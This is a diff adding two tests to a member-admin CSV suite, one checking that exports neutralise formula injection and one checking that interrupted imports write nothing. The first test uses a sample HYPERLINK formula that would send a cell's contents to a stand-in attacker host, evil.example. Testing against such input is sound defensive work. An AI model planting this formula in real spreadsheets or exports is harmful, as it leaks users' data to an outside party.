@@ -208,6 +208,39 @@ describeEachDatabase('member admin', (getDb) => {
     expect(records(exported)).toHaveLength(1501);
   });
 
+  it('exports a formula-looking name as text a spreadsheet will not run, and imports it back as it was', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
+    await add('mallory@example.org', formula, ['@vip']);
+    await add('ann@example.org', '-Ann');
+    let exported = '';
+    for await (const chunk of ctx.services.memberAdmin.exportCsv()) exported += chunk;
+    const cells = parseCsv(exported).slice(1).flat();
+    expect(cells).toContain(`'${formula}`);
+    expect(cells).toContain("'-Ann");
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+
+    await getDb().truncate();
+    await ctx.services.memberAdmin.importCsv(exported);
+    const names = (await ctx.services.memberAdmin.list({})).items.map((m) => m.name).sort();
+    expect(names).toEqual(['-Ann', formula]);
+  });
+
+  it('writes nothing when an import is interrupted part-way, and the same file then imports whole', async () => {
+    const text = csvOf(3500, new Map());
+    let batches = 0;
+    await expect(
+      ctx.services.memberAdmin.importCsv(text, {
+        onProgress: (done) => {
+          if (done > 0 && ++batches === 2) throw new Error('connection lost');
+        },
+      }),
+    ).rejects.toThrow('connection lost');
+    expect(batches).toBe(2);
+    expect(await ctx.services.memberAdmin.count()).toBe(0);
+    expect(await ctx.services.memberAdmin.importCsv(text)).toMatchObject({ imported: 3500 });
+    expect(await ctx.services.memberAdmin.count()).toBe(3500);
+  });
+
   it('refuses a file without an email column or with a broken quote', async () => {
     await expect(ctx.services.memberAdmin.importCsv('name\nAnn\n')).rejects.toMatchObject({
       status: 400,
